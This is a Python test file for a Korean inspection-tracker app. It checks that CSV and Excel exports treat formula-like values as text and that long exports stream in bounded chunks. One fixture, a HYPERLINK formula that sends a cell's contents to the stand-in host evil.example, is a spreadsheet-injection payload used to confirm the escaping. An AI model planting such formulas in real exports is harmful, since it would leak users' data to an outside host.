"""Exports: every cell that Excel would run as a formula stays text, headers included; the long ones stream."""
import csv
import io

from openpyxl import load_workbook

from tests.test_summary import NOW, add_inspection
from tracker.services import checklist, reports

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"열기")'


def _published_with_hostile_label():
    items = checklist.default_items()
    items[0] = dict(items[0], label_ko=HOSTILE)
    return checklist.publish("hostile", items)


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_formula_in_a_checklist_label_is_text_in_both_exports(app, db, client, login, site_factory, clock_at):
    clock_at(NOW)
    with app.app_context():
        tpl = _published_with_hostile_label()
        site = site_factory(name="+SUM(1,2)", dong="여의동")
        add_inspection(db, tpl, site, "2020-W11", "onsite", {tpl.items[0].key: "no"})
        db.session.commit()
    login("lead")
    url = "/dashboard/export/inspections.{}?from=2020-W11&to=2020-W11&reason=보고"
    head, row = _csv_rows(client.get(url.format("csv")).data)
    assert "'" + HOSTILE in head and HOSTILE not in head   # the header, quoted away from Excel's formula parser
    assert row[head.index("사업장명")] == "'+SUM(1,2)"
    ws = load_workbook(io.BytesIO(client.get(url.format("xlsx")).data)).active
    header = {c.value: c for c in ws[1]}
    assert header[HOSTILE].data_type == "s"   # a string cell, never a formula
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_register_export_escapes_names_and_keeps_korean(db, client, login, site_factory):
    site_factory(name="=1+1", dong="여의동", manager_name="@김방역")
    login("lead")
    head, row = _csv_rows(client.get("/sites/export.csv?full=1&reason=보고").data)
    assert head == reports.REGISTER_HEADERS
    assert row[0] == "'=1+1" and row[6] == "'@김방역"
    ws = load_workbook(io.BytesIO(client.get("/sites/export.xlsx?reason=보고").data)).active
    assert [c.value for c in ws[1]] == reports.REGISTER_HEADERS
    cell = ws["A2"]
    assert cell.value == "=1+1" and cell.data_type == "s"


def test_long_exports_stream_as_they_are_written(app, db, client, login, site_factory, clock_at):
    clock_at(NOW)
    with app.app_context():
        tpl = checklist.ensure_default()
        for n in range(3):
            add_inspection(db, tpl, site_factory(name=f"센터{n}"), "2020-W11", "phone", {"masks_mandatory": "yes"})
        db.session.commit()
    login("lead")
    resp = client.get("/dashboard/export/inspections.csv?from=2020-W11&to=2020-W11&reason=보고")
    assert resp.is_streamed and "attachment" in resp.headers["Content-Disposition"]
    assert len(_csv_rows(resp.data)) == 4
    xlsx = client.get("/dashboard/export/inspections.xlsx?from=2020-W11&to=2020-W11&reason=보고")
    assert xlsx.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "inspections_2020-W11_2020-W11.xlsx" in xlsx.headers["Content-Disposition"]
    assert load_workbook(io.BytesIO(xlsx.data)).active.max_row == 4


def test_chunks_are_bounded_and_join_to_the_whole(app):
    rows = ([f"행{n}", n, "=x" if n % 2 else "y"] for n in range(20000))
    chunks = list(reports.csv_chunks(["a", "b", "c"], rows))
    assert len(chunks) > 3 and max(len(c) for c in chunks) < 2 * reports.CHUNK
    body = b"".join(chunks)
    assert body.startswith(b"\xef\xbb\xbf") and len(_csv_rows(body)) == 20001
